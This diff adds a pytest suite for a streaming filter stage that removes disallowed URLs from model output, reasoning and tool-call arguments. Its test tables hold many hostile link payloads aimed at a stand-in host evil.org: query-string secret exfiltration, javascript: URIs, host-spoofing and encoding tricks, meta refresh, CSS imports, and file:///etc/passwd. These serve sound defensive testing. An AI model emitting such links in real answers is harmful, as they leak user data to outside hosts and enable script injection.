@@ -1,0 +1,489 @@
+"""Links: what leads or loads from where it may not is taken out before any renderer can see it."""
+
+from __future__ import annotations
+
+import random
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from laws_links import LAWFUL3
+from links_reader import leaks
+from recordings import SHARED, body, chunks, shared
+
+import streamfilter as sf
+from streamfilter.testing import check_stage, cut, promptness
+from streamfilter.testing.laws import AnyStage
+
+GUARD = sf.Links(["example.com"], images=["img.example.com"])
+EVIL = "https://evil.org/?q=secret"
+
+
+def pieces(stage: sf.Links, parts: list[str]) -> str:
+    return "".join(stage.iter(parts))
+
+
+def everywhere(text: str, stage: sf.Links = GUARD) -> str:
+    """The output, after it was found to be the same however the text is cut, and safe in every beginning."""
+    out = stage.apply(text)
+    machine = stage.machine()
+    left = ""
+    for character in text:
+        left += "".join(item for item in machine.feed(character) if isinstance(item, str))
+        assert not leaks(left, stage.domains), left
+    assert left + "".join(map(str, machine.finish())) == out
+    rng = random.Random(text)
+    for _ in range(3):
+        assert pieces(stage, cut(text, *(rng.randint(0, len(text)) for _ in range(4)))) == out
+    assert stage.apply(out) == out
+    assert not leaks(out, stage.domains)
+    return out
+
+
+TRICKS: list[tuple[str, str]] = [
+    # Markdown
+    (f"[t]({EVIL})", "[t](#)"),
+    (f"![t]({EVIL})", "![t](#)"),
+    ("![t](https://example.com/i.png)", "![t](#)"),  # a link may lead there, but nothing may be loaded
+    (f'[t](<{EVIL}> "title") x', '[t](<#> "title") x'),
+    (f"[a [b] c]({EVIL}(1)(2)) x", "[a [b] c](#) x"),
+    (f"[![alt](https://img.example.com/i)]({EVIL})", "[![alt](https://img.example.com/i)](#)"),
+    (f"[![alt]({EVIL})](https://example.com/)", "[![alt](#)](https://example.com/)"),
+    (f"[t](\n{EVIL}\n)", "[t](\n#\n)"),
+    ("> [t](\n> //evil.org/)", "> [t](\n> #)"),
+    (f'[a][1]\n\n[1]: {EVIL} "title"\n', '[a][1]\n\n[1]: # "title"\n'),
+    ("[1]:\n  <//evil.org/x>\n\n![1]", "[1]:\n  <#>\n\n![1]"),
+    ("![1]\n\n[1]: https://example.com/i", "![1]\n\n[1]: #"),
+    ("[1]: https://example.com/i\n\n![1]", "[1]: https://example.com/i\n\n![1&#93;"),
+    (f"<{EVIL}>", "<[link]>"),
+    ("<javascript:alert(1)>", "<[link]>"),
+    ("<mailto:a@evil.org?body=secret>", "<[link]>"),
+    ("``![a `]` b](https://example.com/i)``", "``![a `]` b](#)``"),
+    # plain text
+    (f"see {EVIL}. So", "see [link]. So"),
+    (f"({EVIL}), and", "([link]), and"),
+    ("www.evil.org/x y", "[link] y"),
+    ("HTTPS://EVIL.ORG y", "[link] y"),
+    ("mailto:x@evil.org?body=secret y", "[link] y"),
+    ("ssh://evil.org/x y", "ssh[link] y"),
+    ("https:\\/\\/evil.org\\/x", "[link]"),
+    ("https&colon;//evil.org", "[link]"),
+    ("https&#58;&#47;&#x2F;evil.org", "[link]"),
+    ("ww&#119;&period;evil.org x", "[link] x"),
+    # the host
+    ("[t](https://example.com@evil.org/)", "[t](#)"),
+    ("[t](https://example.com:443@evil.org/)", "[t](#)"),
+    ("https://example.com@evil.org/", "[link]"),
+    ("[t](https://example.com.evil.org/)", "[t](#)"),
+    ("[t](https://sub.example.com/)", "[t](#)"),
+    ("[t](https://example.com:8080/)", "[t](#)"),
+    ("[t](https://example.com\\@evil.org/)", "[t](#)"),
+    ("[t](https://example.com&commat;evil.org/)", "[t](#)"),
+    ("[t](https://example.com%2eevil.org/)", "[t](#)"),
+    ("[t](https://%65vil.org/)", "[t](#)"),
+    ("[t](https://еxample.com/)", "[t](#)"),  # a Cyrillic letter
+    ("[t](https://xn--xample-2of.com/)", "[t](#)"),
+    ("[t](https://exam\u200bple.com/)", "[t](#)"),
+    ("https://example.co\u200bm.evil.org/", "[link]"),
+    ("[t](https://example。com.evil.org/)", "[t](#)"),
+    ("[t](https://evil．org/)", "[t](#)"),
+    ("[t](https://0x7f.1/)", "[t](#)"),
+    ("[t](https://2130706433/)", "[t](#)"),
+    ("[t](https://[::1]/)", "[t](#)"),
+    ("[t](//example.com(.evil.org/)x)", "[t](#)"),
+    ("https://example.com).evil.org/x y", "[link]).evil.org/x y"),
+    ('https://example.com".evil.org/x y', '[link]".evil.org/x y'),
+    # the scheme
+    ("[t](//evil.org/x)", "[t](#)"),
+    ("[t](///evil.org/x)", "[t](#)"),
+    ("[t](\\/\\/evil.org/x)", "[t](#)"),
+    ("[t](/\\evil.org/x)", "[t](#)"),
+    ("[t](/&sol;evil.org/x)", "[t](#)"),
+    ("[t](https:evil.org)", "[t](#)"),
+    ("[t](https:/evil.org)", "[t](#)"),
+    ("[t](https:\\\\evil.org)", "[t](#)"),
+    ("[t](ftp://example.com/)", "[t](#)"),
+    ("[t](javascript:alert(1))", "[t](#)"),
+    ("[t](JaVaScRiPt&colon;alert(1))", "[t](#)"),
+    ("[t](java&Tab;script:x)", "[t](#)"),
+    ("[t](&#106;avascript:x)", "[t](#)"),
+    ("[t](java\u200bscript:x)", "[t](#)"),
+    ("[t](<java\tscript:x>)", "[t](<#>)"),
+    ("[t](\x01javascript:x)", "[t](\x01javascript:x)"),  # to Markdown no target; to HTML no link
+    ("[t](vbscript:x)", "[t](#)"),
+    ("![t](data:image/png;base64,xx)", "![t](#)"),
+    ("[t](file:///etc/passwd)", "[t](#)"),
+    ("[t](blob:https://example.com/x)", "[t](#)"),
+    ("[t](slack://channel?id=secret)", "[t](#)"),
+    # HTML
+    (f'<a href="{EVIL}">x</a>', '<a href="#">x</a>'),
+    (f"<IMG/SRC='{EVIL}'>", "<IMG/SRC='#'>"),
+    ("<img\nsrc = //evil.org/x>", "<img\nsrc = #>"),
+    ('<img src="https://example.com/i">', '<img src="#">'),
+    ('<img title=">" src="//evil.org">', '<img title=">" src="#">'),
+    ('<img =" x="> " src=//evil.org>', '<img =" x="> " src=#>'),
+    ('<b title="<a href=//evil.org/x>y">', '<b title="<a href=#>y">'),
+    ('<img srcset="https://img.example.com/a 1x, //evil.org/b 2x">', '<img srcset="#">'),
+    ('<a href="java\nscript:x">', '<a href="#">'),
+    ('<a href="&#x6a;avascript:x">', '<a href="#">'),
+    ('<a href=" \x01//evil.org">', '<a href="#">'),
+    ('<a href="\\\\evil.org">', '<a href="#">'),
+    ("<base href=//evil.org/>", "<base href=#>"),
+    ('<link rel=stylesheet href="https://example.com/x">', '<link rel=stylesheet href="#">'),
+    ('<meta http-equiv=refresh content="0; url=//evil.org/x">', '<meta http-equiv=refresh content="#">'),
+    ('<meta http-equiv=refresh content=".0 , &#117;rl = &quot;//evil.org/x">', '<meta http-equiv=refresh content="#">'),
+    ('<meta name=description content="A word: a, b">', '<meta name=description content="A word: a, b">'),
+    ('<form action="//evil.org"><button formaction="//evil.org">', '<form action="#"><button formaction="#">'),
+    ("<iframe srcdoc='&lt;img src=//evil.org&gt;'>", "<iframe srcdoc='#'>"),
+    ('<p style="background:u\\72l(//evil.org/x)">', '<p style="#">'),
+    ("<style>p { background: url( '//evil.org/x') }</style>", "<style>p { background: url( '#') }</style>"),
+    ("<style>@import '//evil.org/x';</style>", "<style>@import '#';</style>"),
+    ('<svg><use xlink:href="//evil.org/x">', '<svg><use xlink:href="#">'),
+    ('<a ping="//evil.org">', '<a ping="#">'),
+    ('<iframe title="\n\n[x](y/src=//evil.org/)', '<iframe title="\n\n[x](y/src=#'),
+    # what is taken out joins nothing
+    (f"[t]{EVIL} (//evil.org)", "[t][link] (//evil.org)"),
+    (f"[t]({EVIL})(//evil.org)", "[t](#)(//evil.org)"),
+    (f"htt[p]({EVIL})s://evil.org", "htt[p](#)s[link]"),
+    (f"<a href{EVIL}=//evil.org>", "<a href[link]>"),
+]
+
+
+@pytest.mark.parametrize(("text", "want"), TRICKS, ids=[text for text, _ in TRICKS])
+def test_a_trick_leaves_no_url_that_leads_out(text: str, want: str) -> None:
+    """The output is what is expected, for all cuts; no renderer finds a URL in any beginning of it; and it passes a second time."""
+    assert everywhere(text) == want
+
+
+HARMLESS = [
+    "Plain prose, with (parentheses), 3 < 4 and a > b; it's 10:30 — R&D; ratio 1:2, a/b and/or c//d.",
+    "A note[1] and [^2], [x] done, [ ] open.\n\n[^2]: See Smith: 12.\n",
+    "| a | b |\n|:--|--:|\n| [x](y.md) | `c` |\n",
+    "[t](https://example.com/a?b=c#d 'title'), [u](/local/path), [v](#top), [w](?q=1), [x](notes.txt), [m](mailto:a@example.com?subject=x)",
+    "![i](https://img.example.com/i.png) ![j](local.png)",
+    "See https://example.com/x, (https://example.com), **https://example.com** and “https://example.com”.",
+    "请看[链接](https://example.com)。好",
+    "Write to me@elsewhere.org or <me@elsewhere.org>.",
+    "for (int i = 0; i<n; i++) { v[i](x); std::vector<std::string> w; x = &y; } // done\n\nMap<String, List<String>> m;\n",
+    "let v = vec![1, 2]; assert![a](b); fn f<T: Display>(x: &T) -> x[i]: int",
+    'callbacks[0](event); d["a"]: 5; x = a[1:2]; {"u":"https://example.com","v":[1]}',
+    '<div class="a" id=b><b>x</b><br/></div> <img src=\'local.png\' alt="a > b"> <a href="https://example.com/">y</a>',
+    '<p style="background-image: none; color: red">a</p> XMPP: a protocol; mailto: too',
+    "$a_1 < b^{2}$, \\(x\\), \\[ y \\], *a* _b_ ~~c~~ `d` ```e```",
+    "C:\\dir\\file, key: value, 12:30, a::b, https and http, www and url, @important",
+    "\x00 \ud800 \u200b \U0001f600 é",
+    "",
+]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_what_leads_nowhere_else_is_unchanged(text: str) -> None:
+    """Prose, code, tables, footnotes, mathematics, links to allowed hosts and to the page's own."""
+    for parts in ([text], list(text), [text[n : n + 4] for n in range(0, len(text), 4)]):
+        assert pieces(GUARD, parts) == text
+
+
+@pytest.mark.parametrize(
+    ("stage", "text", "want"),
+    [
+        (sf.Links(), "[a](x) [b](https://example.com)", "[a](x) [b](#)"),
+        (sf.Links(relative=False), "[a](x) [b](#c) [d](/e) ![f](g)", "[a](#) [b](#c) [d](#) ![f](#)"),
+        (
+            sf.Links(["*.example.com"]),
+            "https://a.b.example.com/ https://example.com/ https://aexample.com/",
+            "https://a.b.example.com/ [link] [link]",
+        ),
+        (
+            sf.Links(["example.com:8080"]),
+            "[a](https://example.com:8080/x) [b](https://example.com)",
+            "[a](https://example.com:8080/x) [b](#)",
+        ),
+        (
+            sf.Links(["bücher.example"]),
+            "[a](https://bücher.example/) [b](https://xn--bcher-kva.example/)",
+            "[a](https://bücher.example/) [b](https://xn--bcher-kva.example/)",
+        ),
+        (
+            sf.Links(["example.com"], schemes=["https", "tel"]),
+            "[a](http://example.com) [b](tel:+1) ![c](tel:+1)",
+            "[a](#) [b](tel:+1) ![c](#)",
+        ),
+        (sf.Links(to=""), f"a {EVIL} b", "a  b"),
+        (sf.Links(to="no"), f"a {EVIL} b", "a no b"),
+        (
+            sf.Links(["example.com"], domains=True),
+            "evil.org/?q=1, example.com, me@evil.org, //evil.org/x",
+            "[link], example.com, me@evil.org, //[link]",
+        ),
+        (sf.Links(["10.0.0.1"]), "[a](http://10.0.0.1/) [b](http://167772161/)", "[a](http://10.0.0.1/) [b](#)"),
+    ],
+)
+def test_what_is_allowed_is_said_by_the_arguments(stage: sf.Links, text: str, want: str) -> None:
+    """Hosts, those below a host, ports, names that are not ASCII, schemes, relative URLs, and what stands in."""
+    assert stage.apply(text) == pieces(stage, list(text)) == want
+
+
+FRAGMENTS = [
+    *(
+        "https://evil.org/?q=s",
+        "https://example.com/a",
+        "https://img.example.com/i",
+        "//evil.org/x",
+        "http:",
+        "https:",
+        "/",
+        "//",
+        "\\",
+        "\\/",
+    ),
+    *("evil.org", "@evil.org", ".evil.org/", "example.com", "www.", "javascript:", "java", "script:x", "mailto:a@evil.org?b=c"),
+    *(
+        "<",
+        ">",
+        "<a ",
+        "<img ",
+        "<a href=",
+        "<img src=",
+        "<iframe src=",
+        " src=",
+        " href=",
+        " href = ",
+        " title=",
+        " style=",
+        " srcset=",
+    ),
+    *(
+        '"',
+        "'",
+        "`",
+        "``",
+        "[",
+        "]",
+        "![",
+        "](",
+        "]:",
+        "[a](",
+        "![a](",
+        "[1]: ",
+        "![1](",
+        "[1]",
+        "![1]",
+        "<!--",
+        "-->",
+        "(",
+        ")",
+        "|",
+    ),
+    *(
+        " ",
+        "\n",
+        "\n\n",
+        "\t",
+        "> ",
+        "- ",
+        "    ",
+        "&",
+        "&#x2F;",
+        "&colon;",
+        "&sol;",
+        "&Tab;",
+        "%2f",
+        "\u200b",
+        "／",
+        "。",
+        "#",
+        "?",
+        "x",
+        "=",
+    ),
+    *(
+        '<div title="',
+        "<div title='",
+        "</a>",
+        "<base href=",
+        '<meta http-equiv=refresh content="0;url=',
+        "<svg><use xlink:href=",
+        "url(",
+    ),
+    *("*", "_", "$", "\\]", "\\[", ":", ".", "```\n", "\r\n", "\x00", "\x0c"),
+]
+
+
+@pytest.mark.parametrize("domains", [False, True])
+@pytest.mark.parametrize("seed", range(3))
+def test_no_composition_of_hostile_pieces_leaves_a_url(seed: int, domains: bool) -> None:
+    """Random texts of pieces of links: the same for all cuts, safe in every renderer at every moment, and stable."""
+    stage = sf.Links(["example.com"], images=["img.example.com"], domains=domains)
+    rng = random.Random(seed)
+    for _ in range(50):
+        text = (
+            "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(2, 12)))
+            + rng.choice(["", EVIL, "//evil.org/x"])
+            + rng.choice("\n >)\"'")
+        )
+        out = stage.apply(text)
+        machine, left = stage.machine(), [""]
+        for part in cut(text, *(rng.randint(0, len(text)) for _ in range(6))):
+            left.append(left[-1] + "".join(map(str, machine.feed(part))))
+        left.append(left[-1] + "".join(map(str, machine.finish())))
+        assert left[-1] == out == pieces(stage, list(text)), text
+        assert stage.apply(out) == out, text
+        for shown in (out, rng.choice(left)):
+            assert not leaks(shown, domains), (text, shown)
+
+
+@pytest.mark.parametrize(("stage", "means", "alphabet"), LAWFUL3, ids=str)
+def test_it_obeys_the_laws(stage: AnyStage, means: Callable[[str], str], alphabet: str) -> None:
+    """All laws of text stages, against a meaning written down without it."""
+    check_stage(stage, means, alphabet=alphabet, examples=60, max_chars=14)
+
+
+def test_nothing_leaves_that_a_continuation_could_change() -> None:
+    """By brute force; and what is held is no more than the mark and a target that is not decided."""
+    _, targets, _ = LAWFUL3[0]
+    promptness(sf.Links(["a"]), "[a](//a) a", targets, alphabet="](/a ", depth=3, exact=False)
+    held = [
+        (text, released(text))
+        for text in ("a [b", "a [b]", "[b](x", "[b](https", "[b](https://example.com/", "a <", "a <b", "<b c", "a h", "a ht", "see")
+    ]
+    assert [len(text) - len(left) for text, left in held] == [0, 1, 3, 7, 0, 1, 2, 0, 1, 2, 0]
+
+
+def released(text: str, stage: sf.Links = GUARD) -> str:
+    machine = stage.machine()
+    return "".join(str(item) for character in text for item in machine.feed(character))
+
+
+@pytest.mark.parametrize(
+    "flood",
+    [
+        "<",
+        "<a b=",
+        "<a href='",
+        "[",
+        "](",
+        "![](",
+        "&#",
+        "\\",
+        ":",
+        "https://",
+        "www.a ",
+        "]: ",
+        "<ab:",
+        "url(",
+        "<a title='\n' ",
+        "h",
+        "!",
+    ],
+)
+def test_a_flood_of_marks_takes_linear_time(flood: str) -> None:
+    """Four times the text takes about four times as long, in one piece and in small ones."""
+
+    def took(chars: int, size: int) -> float:
+        text = flood * (chars // len(flood))
+        parts = [text[at : at + size] for at in range(0, len(text), size)]
+        best = float("inf")
+        for _ in range(2):
+            begun = time.process_time()
+            pieces(GUARD, parts)
+            best = min(best, time.process_time() - begun)
+        return best
+
+    for size in (4, 100_000):
+        assert took(16_000, size) < 12 * took(4_000, size) + 0.02
+
+
+def test_what_is_held_is_bounded() -> None:
+    """A URL that cannot be judged within `max_hold` is refused, at the same place for all cuts."""
+    stage = sf.Links(max_hold=400)
+    for text in (
+        "[a](" + " " * 900 + "b)",
+        "<p style='" + "a" * 900 + "'>",
+        "<ab:" + "c" * 900 + ">",
+        "url(" + " " * 900 + ")",
+        "<a href" + " " * 900 + "=x>",
+        "&#" + "0" * 900,
+    ):
+        machine = stage.machine()
+        left = ""
+        for character in text:
+            left += "".join(map(str, machine.feed(character)))
+            assert machine.held <= 401
+        assert left + "".join(map(str, machine.finish())) == stage.apply(text)
+
+
+def test_findings_name_the_rule_and_the_place_and_never_the_url() -> None:
+    """`link` and `image`, with the characters that were taken out; one that the stream cut off is reported too."""
+    seen: list[sf.Finding] = []
+    context = sf.Context(observe=[seen.append])
+    text = f"a ![i]({EVIL}) b {EVIL}, c"
+    GUARD.apply(text, context=context)
+    assert [(finding.rule, finding.action) for finding in seen] == [("image", "redact"), ("link", "redact")]
+    assert all(text[finding.start : finding.end] == EVIL for finding in seen)
+    assert "evil" not in repr(seen)
+
+
+def test_it_can_end_the_stream_instead() -> None:
+    """`raise` and `stop` deliver what came before the URL."""
+    got: list[str] = []
+    with pytest.raises(sf.Blocked, match="rule image matched at character 7 of the answer"):
+        got.extend(sf.Links(action="raise").iter(["a ![i]", "(//evil.org/x) b"]))
+    assert "".join(got) == "a ![i]("
+    assert sf.Links(action="stop").apply(f"a {EVIL} b") == "a "
+
+
+@pytest.mark.parametrize(
+    ("arguments", "message"),
+    [
+        ({"allow": ["https://example.com"]}, "'https://example.com' is no host: write 'example.com'"),
+        ({"allow": ["example.com/x"]}, "is no host"),
+        ({"images": ["*"]}, "is no host"),
+        ({"allow": ["straße.example"]}, "more than one reading"),
+        ({"schemes": ["javascript"]}, "'javascript' can never be allowed"),
+        ({"schemes": ["HTTPS"]}, "schemes"),
+        ({"to": "<x>"}, "to: only letters"),
+        ({"to": "](x"}, "to: only letters"),
+        ({"action": "drop"}, "action"),
+        ({"max_hold": 10}, "max_hold"),
+    ],
+)
+def test_bad_arguments_are_refused_when_it_is_built(arguments: dict[str, Any], message: str) -> None:
+    """With what would be right."""
+    with pytest.raises(ValueError, match=message.replace("(", r"\(")):
+        sf.Links(**arguments)
+
+
+def test_it_is_a_guard_of_every_channel() -> None:
+    """Reasoning, refusals and the strings in the arguments of tool calls; each with its own state."""
+    one, two = sf.Channel("reasoning"), sf.Channel("answer", (0, 1))
+    items = [sf.TextDelta("[a](", one), sf.TextDelta("[b", two), sf.TextDelta("//evil.org/x) c", one), sf.TextDelta("](x) d", two)]
+    out = [item for item in GUARD.iter(items) if isinstance(item, sf.TextDelta)]
+    assert "".join(item.text for item in out if item.channel == one) == "[a](#) c"
+    assert "".join(item.text for item in out if item.channel == two) == "[b](x) d"
+    call = sf.TextDelta('{"url": "https:\\u002f/evil.org/x"}', sf.Channel("tool_arguments", (0, 0, 0)))
+    assert "".join(item.text for item in GUARD.iter([call]) if isinstance(item, sf.TextDelta)) == '{"url": "[link]"}'
+
+
+def test_recorded_answers_without_urls_are_unchanged() -> None:
+    """All recorded text of one API: what has no `://`, no `www.` and no tag with a target is not touched."""
+    if not SHARED.exists():
+        pytest.skip("the recordings are not beside the project")
+    changed = []
+    for entry in shared("openai-chat"):
+        try:
+            read = chunks(body(entry))
+        except ValueError:
+            continue
+        parts = [
+            str((choice.get("delta") or {}).get("content") or "")
+            for chunk in read
+            for choice in chunk.get("choices") or ()
+            if choice.get("index") == 0
+        ]
+        text = "".join(parts)
+        out = pieces(GUARD, parts)
+        assert out == GUARD.apply(text)
+        if out != text and "://" not in text and "www." not in text:
+            changed.append(entry["file"])
+    assert not changed
